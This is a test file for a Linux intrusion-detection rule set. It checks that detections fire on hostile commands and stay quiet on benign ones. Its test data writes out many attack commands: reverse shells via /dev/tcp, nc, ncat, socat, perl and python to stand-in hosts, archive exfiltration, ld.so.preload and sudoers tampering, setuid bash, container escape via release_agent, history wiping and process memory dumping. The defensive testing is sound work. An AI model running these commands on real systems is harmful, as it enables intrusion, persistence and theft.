"""Rules on what intruders do on Linux, on both sides of each line."""

import pytest

from incidents import EVIL, OUTSIDE, event, examples, found, ids, launch, logon, lookup, strengths, write
from verifier.rules import unix

BASH, NGINX, PORT = "/usr/bin/bash", "/usr/sbin/nginx", "5432"
TEE, DPKG, DROPPED = "/usr/bin/tee", "/usr/bin/dpkg", "/tmp/x/agent"


def sh(text, **more):
    """One command that a shell runs."""
    return launch(0, BASH, f"bash -c '{text}'", **{"parent": "/usr/sbin/sshd", **more})


@pytest.mark.parametrize(
    ("text", "strength"),
    [
        ("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "confirmed"),
        ("bash -i >& /dev/tcp/10.20.1.77/443 0>&1", "confirmed"),
        ("sh -i >& /dev/udp/cdn.quill.example/53 0>&1", "confirmed"),
        ("exec 5<>/dev/tcp/a.quill.example/443;cat <&5 | while read line; do $line 2>&5 >&5; done", "confirmed"),
        ("0<&196;exec 196<>/dev/tcp/a.quill.example/80; sh <&196 >&196 2>&196", "confirmed"),
        ("cat < /dev/tcp/a.quill.example/80 | bash", "confirmed"),
        ("ncat --exec /bin/bash a.quill.example 443", "confirmed"),
        ("nc a.quill.example 443 -e /bin/sh", "confirmed"),
        ("nc a.quill.example 443 | sh", "confirmed"),
        ("mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc a.quill.example 44 >/tmp/f", "confirmed"),
        ("socat tcp-connect:a.quill.example:443 exec:sh,pty", "confirmed"),
        ("bash -i >& /dev/tcp/127.0.0.1/443 0>&1", "suspicious"),
        ("tar c /srv > /dev/tcp/203.0.113.9/80", "suspicious"),
        ("tar c /srv > /dev/tcp/a.quill.example/80", "suspicious"),
        ("for p in {1..999}; do echo > /dev/tcp/10.20.1.77/$p; done", "suspicious"),
        ("echo > /dev/tcp/127.0.0.1/5432", ""),
        ("echo > /dev/tcp/localhost/5432", ""),
        ("</dev/tcp/10.20.1.77/5432", ""),
        ("(echo > /dev/tcp/mail.quill.example/25) >/dev/null 2>&1", ""),
        ("until echo > /dev/tcp/db/5432; do sleep 1; done; exec bash /srv/run.sh", ""),
        ("exec 3<>/dev/tcp/localhost/80; echo GET / >&3; cat <&3", ""),
        ("exec 3<>/dev/tcp/web-2/80; echo GET / >&3; cat <&3", ""),
        ("exec 3<>/dev/tcp/web.quill.internal/80; echo GET / >&3; cat <&3", ""),
        ("nc -zv db.quill.example 5432", ""),
    ],
)
def test_a_shell_on_a_socket_is_told_from_a_question_whether_a_port_is_open(text, strength):
    assert found(sh(text)) == [f"shell-over-network {strength} L1-1"] * bool(strength)


@pytest.mark.parametrize(
    ("text", "strength"),
    [
        ('perl -e \'use Socket;$i="203.0.113.9";connect(S);open(STDIN,">&S");exec("/bin/sh -i");\'', "confirmed"),
        (
            'python3 -c \'import socket,os,pty;s.connect(("a.quill.example",4));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
            "confirmed",
        ),
        ("perl -e 'use Socket;$i=1'", "suspicious"),
        ("python3 -c 'import socket;socket.create_connection((\"127.0.0.1\",80))'", ""),
        ("perl script.pl", ""),
    ],
)
def test_a_one_liner_counts_by_what_it_ties_to_whom(text, strength):
    assert found(launch(0, "/usr/bin/perl", text)) == [f"shell-over-network {strength} L1-1"] * bool(strength)


CASES = {
    "library-preloaded": [
        ("confirmed", [sh("echo /tmp/q.so >> /etc/ld.so.preload")]),
        ("suspicious", [sh("LD_PRELOAD=/dev/shm/q.so /usr/bin/id")]),
        ("", [sh("LD_PRELOAD=/usr/lib/libjemalloc.so /usr/bin/id"), sh("cat /etc/ld.so.preload")]),
    ],
    "sudoers-changed": [
        ("suspicious", [sh("echo ana ALL=ALL | tee -a /etc/sudoers.d/ana")]),
        ("suspicious", [write(0, "/etc/sudoers.d/ana", BASH)]),
        ("confirmed", [write(0, "/etc/sudoers", DROPPED)]),
        ("confirmed", [write(0, "/etc/sudoers.d/www", NGINX)]),
        ("", [write(0, "/etc/sudoers.d/pkg", DPKG), sh("visudo -c -f /etc/sudoers"), sh("cat /etc/sudoers")]),
    ],
    "unit-written": [
        ("suspicious", [write(0, "/etc/systemd/system/q.service", TEE)]),
        ("suspicious", [sh("echo x > /etc/systemd/system/q.service")]),
        ("suspicious", [sh("systemctl enable /tmp/q.service")]),
        ("confirmed", [write(0, "/etc/systemd/system/q.service", DROPPED)]),
        ("", [write(0, "/usr/lib/systemd/system/q.service", DPKG), sh("systemctl enable q.service")]),
    ],
    "kernel-module-inserted": [
        ("confirmed", [launch(0, "/usr/sbin/insmod", "insmod /tmp/q.ko")]),
        ("confirmed", [event(0, "module_load", "driver", file_path="/tmp/q.ko", process_path="/usr/sbin/insmod")]),
        ("suspicious", [launch(0, "/usr/sbin/insmod", "insmod ./q.ko")]),
        ("", [launch(0, "/usr/sbin/insmod", "insmod /lib/modules/6.1/q.ko"), launch(1, "/usr/sbin/modprobe", "modprobe q")]),
    ],
    "setuid-shell": [
        ("confirmed", [launch(0, "/usr/bin/chmod", "chmod u+s /bin/bash")]),
        ("confirmed", [launch(0, "/usr/bin/chmod", "chmod 4755 /tmp/q")]),
        ("", [launch(0, "/usr/bin/chmod", "chmod 0755 /bin/bash"), launch(0, "/usr/bin/chmod", "chmod 4755 /usr/bin/sudo")]),
        ("", [launch(0, "/usr/bin/chmod", "chmod 2775 /tmp/q"), launch(0, "/usr/bin/chmod", "chmod +x run.sh")]),
    ],
    "shell-history-off": [
        ("suspicious", [sh("unset HISTFILE")]),
        ("suspicious", [sh("ln -sf /dev/null /root/.bash_history")]),
        ("suspicious", [sh("rm -f /root/.bash_history")]),
        ("", [sh("export HISTSIZE=5000"), sh("HISTFILE=/var/log/h bash"), sh("grep x /root/.bash_history")]),
    ],
    "host-from-container": [
        ("suspicious", [launch(0, "/usr/bin/nsenter", "nsenter -t 1 -m -u sh")]),
        ("suspicious", [launch(0, "/usr/bin/docker", "docker run -v /:/host -it img chroot /host")]),
        ("confirmed", [sh("echo /cmd > /tmp/cgrp/release_agent")]),
        ("confirmed", [launch(0, "/usr/bin/nsenter", "nsenter -t 1 -m sh", parent=NGINX)]),
        ("", [launch(0, "/usr/bin/docker", "docker run -v /:/rootfs:ro exporter"), launch(0, "/usr/bin/docker", "docker run -v /srv:/srv app")]),
    ],
    "process-memory-copied": [
        ("suspicious", [launch(0, "/usr/bin/gcore", "gcore 412")]),
        ("suspicious", [sh("dd if=/proc/412/mem of=/root/m bs=1")]),
        ("", [sh("cat /proc/412/status"), sh("cat /proc/meminfo"), launch(0, "/usr/bin/gdb", "gdb -p 412")]),
    ],
}  # fmt: skip


@examples(CASES)
def test_what_is_found_on_linux_and_how_strong(rule_id, strength, rows):
    assert strengths(rule_id, *rows) == ({strength} if strength else set())


def test_every_rule_on_linux_has_examples_on_both_sides():
    assert {rule.rule_id for rule in unix.RULES} == {*CASES, "shell-over-network"}


# ---------------------------------------------------------------- sweeps and names
def sessions(count, *, activity="rdp_session", src="10.20.1.99", gap=1, same=False, **more):
    return [
        logon(gap * n, activity, None, src, host=None, target_hostname=f"10.20.5.{0 if same else n}", **more)
        for n in range(count)
    ]


@pytest.mark.parametrize(
    ("rows", "strength"),
    [
        (sessions(9), ""),
        (sessions(10), "suspicious"),
        (sessions(10, activity="ssh_session"), "suspicious"),
        (sessions(10, activity="failure"), "suspicious"),
        (sessions(10, src=OUTSIDE), "confirmed"),
        (sessions(10, same=True), ""),
        (sessions(10, gap=40), ""),
        (sessions(10, activity="ssh_session", status="success"), ""),
        (sessions(10, status="Success"), "suspicious"),
        (sessions(9, status="Success"), ""),
        (sessions(10, activity="ntlm", status="success"), "suspicious"),
        (sessions(25, same=True, status="Success"), ""),
        (sessions(10, src=None), ""),
        (sessions(24, same=True), ""),
    ],
)
def test_one_source_that_tries_the_door_of_many_hosts_is_a_sweep(rows, strength):
    assert found(*rows) == [f"sign-in-sweep {strength} {ids(1, 10)}"] * bool(strength)


@pytest.mark.parametrize(("activity", "is_found"), [("rdp_session", True), ("ssh_session", False)])
def test_sessions_of_remote_desktop_with_one_host_without_end_are_noticed(activity, is_found):
    assert found(*sessions(25, same=True, activity=activity)) == [f"sign-in-sweep suspicious {ids(1, 25)}"] * is_found


def test_failures_that_name_neither_account_nor_host_count_for_their_target():
    rows = [logon(n, "failure", None, host=None, target_hostname="10.20.5.1") for n in range(5)]

    assert found(*rows) == [f"failures-on-host confirmed {ids(1, 5)}"]


def names(count, label="{:02d}q7x1m9z4k2w8v5t3", **more):
    return [lookup(n, f"{label.format(n)}.t.quill.example", None, **more) for n in range(count)]


@pytest.mark.parametrize(
    ("rows", "is_found"),
    [
        (names(20), True),
        (names(19), False),
        (names(20, "{:02d}aaaaaaaaaaaaaaaa"), False),
        (names(20, "{:02d}q7x1m9z4k"), False),
    ],
)
def test_many_odd_names_under_one_domain_are_noticed(rows, is_found):
    assert found(*rows) == [f"many-odd-names suspicious {ids(1, 20)}"] * is_found


def test_names_that_two_hosts_ask_for_are_kept_apart_by_their_addresses():
    rows = names(20, host=None)
    for number, row in enumerate(rows):
        row["fields"]["src_ip"] = f"10.20.1.{number % 2}"

    assert found(*rows) == []


def test_a_program_of_windows_is_no_matter_of_linux():
    assert not [line for line in found(launch(0, EVIL)) if line.split()[0] in CASES]
